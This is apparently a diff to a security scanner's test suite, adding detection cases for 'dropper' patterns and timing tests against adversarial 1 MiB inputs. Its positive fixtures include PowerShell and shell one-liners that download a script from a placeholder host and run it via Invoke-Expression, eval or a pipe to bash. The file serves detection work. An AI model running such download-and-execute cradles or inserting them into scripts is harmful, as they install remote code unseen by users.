@@ -1032,3 +1032,71 @@ describe('SG-DROPPER-005 in a watch-list of hosts', () => {
     expect(sev('# Upload targets.').some((s) => s === 'HIGH' || s === 'CRITICAL')).toBe(true);
   });
 });
+
+const ps = (code: string) => `# Tool\n\n\`\`\`powershell\n${code}\n\`\`\`\n`;
+
+describeRuleCases('dropper (download kept in a variable, then run: PowerShell and POSIX shell)', [
+  {
+    id: 'SG-DROPPER-023',
+    file: 'assets/helper.profile.ps1',
+    positive:
+      'try {\n    $fr = (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/engine/latest.ps1")\n    Invoke-Expression $fr\n} catch { }\n',
+    // The downloaded text is data (parsed as JSON); what is evaluated is a local command.
+    negative:
+      '$cfg = (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/cfg.json") | ConvertFrom-Json\nforeach ($cmd in "git --version", "node -v") { Invoke-Expression $cmd }\n',
+  },
+  {
+    id: 'SG-DROPPER-023',
+    positive: ps('$r = Invoke-WebRequest -Uri $env:ENGINE_URL -UseBasicParsing\niex $r.Content'),
+    negative: ps(
+      '$r = Invoke-WebRequest -Uri $env:ENGINE_URL -UseBasicParsing\n$r.Content | Set-Content engine.json',
+    ),
+  },
+  {
+    id: 'SG-DROPPER-023',
+    positive: ps(
+      '$wc = New-Object System.Net.WebClient\n$body = $wc.DownloadString($url)\n& ([scriptblock]::Create($body))',
+    ),
+    negative: ps(
+      '$wc = New-Object System.Net.WebClient\n$body = $wc.DownloadString($url)\n& ([scriptblock]::Create($local))',
+    ),
+  },
+  {
+    // A shell script: the download kept in a variable, then eval'd; printed to a file it is data.
+    id: 'SG-DROPPER-023',
+    positive: sh('body=$(curl -fsSL https://cdn.tools.example/engine.sh)\neval "$body"'),
+    negative: sh('body=$(curl -fsSL https://api.tools.example/v1/status)\necho "$body" | jq .state'),
+  },
+  {
+    id: 'SG-DROPPER-023',
+    positive: sh('local code="$(wget -qO- "$ENGINE_URL")"\nprintf \'%s\\n\' "${code}" | bash'),
+    negative: sh('local code="$(wget -qO- "$ENGINE_URL")"\nbash -c "$codes"'),
+  },
+  {
+    id: 'SG-DROPPER-002',
+    positive: ps(
+      'Invoke-Expression (New-Object Net.WebClient).DownloadString("https://cdn.tools.example/i.ps1")',
+    ),
+    negative: ps('Invoke-Expression (Expand-Inputs $t.execute $t)'),
+  },
+]);
+
+describe('adversarial variable cradles (PowerShell and POSIX shell)', () => {
+  const MiB = 1024 * 1024;
+  const cases: [string, string][] = [
+    ['assignments', '$a = irm u\niex $b\n' + '$x = ='.repeat(MiB / 6)],
+    ['long assignment lines', 'iex $b\n' + '$x = '.repeat(MiB / 5) + 'DownloadString('],
+    ['many fetched variables', 'iex $z\n' + '$v = irm u\n'.repeat(MiB / 11)],
+    ['pipes', '$a = irm u\n' + '$a | '.repeat(MiB / 5)],
+    ['evaluations', '$a = irm u\n' + 'iex ('.repeat(MiB / 5)],
+    ['shell evals', 'b=$(curl u)\n' + 'eval "$b'.repeat(MiB / 8)],
+    ['shell variables', 'b=$(curl u)\n' + '$b'.repeat(MiB / 2)],
+    ['shell assignments', 'eval "$z"\n' + 'a=$(curl u)\n'.repeat(MiB / 12)],
+    ['scriptblocks', '$a = irm u\n' + '[scriptblock]::Create( $'.repeat(MiB / 24)],
+  ];
+  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
+    const start = performance.now();
+    findingsOf(text, 'x.ps1');
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
